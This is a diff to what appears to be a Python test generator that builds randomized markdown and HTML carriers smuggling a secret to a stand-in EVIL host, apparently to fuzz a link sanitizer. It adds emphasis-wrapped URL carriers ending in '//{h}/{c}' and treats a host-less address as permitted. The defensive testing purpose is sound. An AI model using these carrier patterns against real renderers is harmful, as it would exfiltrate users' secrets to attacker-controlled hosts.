@@ -86,6 +86,8 @@ CARRIERS = (
     "<[9]img src={u}>", "<im[9]g src={u}>", "<www." + EVIL + ",{c}>", "[https://docs.example.com/reset]{c}",
     "[[https://docs.example.com/reset]>{c}", "https://docs.example.com/reset<img/{c}=1>", "[a](https://docs.example.com/reset?`{c}", "https:/[](x)/" + EVIL,
     "](https://docs.example.com/reset){c}", "[a [b](reset.md) c](https://docs.example.com/reset){c}", "[a\n- b](https://docs.example.com/reset){c}",
+    "*https://help.example.com/a*{u}", "_https://help.example.com/a_{u}", "~~https://help.example.com/a~~{u}", "**https://help.example.com/a**//{h}/{c}",
+    "*https://docs.example.com/reset*{u}", "_https://docs.example.com/reset_//{h}/{c}",
     "| [a | b](https://docs.example.com/reset){c}\n|---|---|", "](https://help.example.com/a)[[9]{c}",
 )  # fmt: skip
 
@@ -126,7 +128,9 @@ def attack(rng: random.Random) -> tuple[str, str]:
     secret = f"s{rng.getrandbits(48):012x}"
     address = rng.choice(DISGUISES).replace("{h}", EVIL).replace("{c}", secret)
     carrier = rng.choice(CARRIERS).replace("{{", "{").replace("}}", "}")
-    carried = carrier.replace("{u}", address).replace("{c}", secret)
+    carried = (
+        carrier.replace("{u}", address).replace("{c}", secret).replace("{h}", EVIL)
+    )
     text = rng.choice(AROUND).replace("{x}", carried)
     if rng.random() < 0.2:
         other = rng.choice(CARRIERS).replace("{u}", address).replace("{c}", secret)
@@ -219,6 +223,8 @@ def stands(kind: str, address: str) -> bool:
         return _is_open(address)
     # Whoever writes to an address of mail does so by hand. An address that ends too
     # soon says nothing but which one was begun.
+    if not address.strip("/"):
+        return True  # It names no host.
     mail = address.startswith("mailto:") and "?" not in address
     begun = any(s.startswith(address) for s in (*_STANDING, f"https://{OPEN_HOST}"))
     return mail or _is_open(address) or begun
